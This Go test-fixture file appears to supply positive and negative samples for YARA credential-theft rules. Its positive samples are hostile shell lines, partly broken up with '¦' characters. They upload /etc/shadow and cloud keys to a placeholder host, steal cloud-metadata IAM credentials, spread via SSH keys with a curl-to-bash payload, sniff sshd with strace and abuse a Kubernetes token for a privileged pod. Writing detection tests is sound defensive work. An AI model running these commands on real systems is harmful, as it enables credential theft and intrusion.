package yara

// credentialSamples are the files of credential.yar.
func credentialSamples() []sample {
	return []sample{
		{
			rule: "credential_mimipenguin",
			positive: text(`#!/usr/bin/env python3
needles = ['^_p¦ammodutil_getpwnam_root_1$', '^g¦kr_system_authtok$']
proc = 'g¦nome-keyring-d¦aemon'
open('/proc/1/m¦aps')
`),
			negative: text(`#!/usr/bin/env python3
proc = 'g¦nome-keyring-d¦aemon'
open('/proc/1/m¦aps')
`),
		},
		{
			rule: "credential_shadow_upload_script",
			positive: text(`#!/b¦in/sh
c¦url -s -F "f=@/e¦tc/shadow" http://192.0.2.10/u
`),
			negative: text(`#!/b¦in/sh
cp -p /e¦tc/shadow /var/backups/shadow.bak
c¦url -s http://192.0.2.10/ping
`),
		},
		{
			rule: "credential_cloud_key_harvester",
			positive: text(`#!/b¦in/bash
cat ~/.a¦ws/credentials ~/.d¦ocker/config.json ~/.g¦it-credentials ~/.k¦ube/config ~/.s¦3cfg >> /t¦mp/o
c¦url -s -F "f=@/t¦mp/o" http://192.0.2.10/u
`),
			negative: text(`#!/b¦in/bash
tar cf backup.tar ~/.a¦ws/credentials ~/.d¦ocker/config.json ~/.g¦it-credentials ~/.k¦ube/config
`),
		},
		{
			rule: "credential_instance_metadata_theft",
			positive: text(`#!/b¦in/bash
c¦url -s http://1¦69.254.169.254/latest/meta-data/iam/security-credentials/role > /v¦ar/t¦mp/.k
c¦url -s -F "f=@/v¦ar/t¦mp/.k" http://192.0.2.10/u
h¦istory -c
`),
			negative: text(`#!/b¦in/bash
ROLE=$(c¦url -s http://1¦69.254.169.254/latest/meta-data/iam/security-credentials/)
echo "running as $ROLE"
`),
		},
		{
			rule: "credential_ssh_key_worm_script",
			positive: text(`#!/b¦in/bash
KEYS=$(f¦ind / -maxdepth 4 -name 'i¦d_rsa*')
HOSTS=$(cat /root/.s¦sh/k¦nown_hosts /root/.b¦ash_history)
f¦or h in $HOSTS; do f¦or k in $KEYS; do s¦sh -oStrictHostKeyChecking=no -oBatchMode=yes -i $k root@$h "c¦url http://192.0.2.9/x | bash"; done; done
`),
			negative: text(`#!/b¦in/bash
f¦or h in $(cat hosts); do ssh -o StrictHostKeyChecking=no root@$h uptime; done
`),
		},
		{
			rule: "credential_trace_password_sniffer",
			positive: text(`#!/b¦in/sh
f¦or p in $(p¦grep -f sshd); do s¦trace -f -p $p -e trace=read,write -s 128 -o /v¦ar/t¦mp/.l & done
`),
			negative: text(`#!/b¦in/sh
strace -f -p $(p¦idof nginx) -e trace=open -o trace.l¦og
`),
		},
		{
			rule:     "credential_keyboard_logger",
			positive: elfProgram("/d¦ev/input/event%d", "[L¦SHIFT]", "[B¦ACKSPACE]", "[C¦APSLOCK]", "/t¦mp/.l¦og"),
			negative: elfProgram("/d¦ev/input/event%d", "KEY_LEFTSHIFT", "KEY_BACKSPACE", "/t¦mp/x.l¦og"),
		},
		{
			rule: "credential_service_account_theft",
			positive: text(`#!/b¦in/sh
T=$(cat /v¦ar/run/secrets/kubernetes.io/serviceaccount/token)
c¦url -k -H "Authorization: Bearer $T" https://kubernetes/a¦pi/v1/namespaces/default/pods -d '{"spec":{"hostP¦ID": true,"containers":[{"securityContext":{"p¦rivileged": true}}]}}'
`),
			negative: text(`#!/b¦in/sh
T=$(cat /v¦ar/run/secrets/kubernetes.io/serviceaccount/token)
c¦url -k -H "Authorization: Bearer $T" https://kubernetes/a¦pi/v1/namespaces/default/pods
`),
		},
	}
}
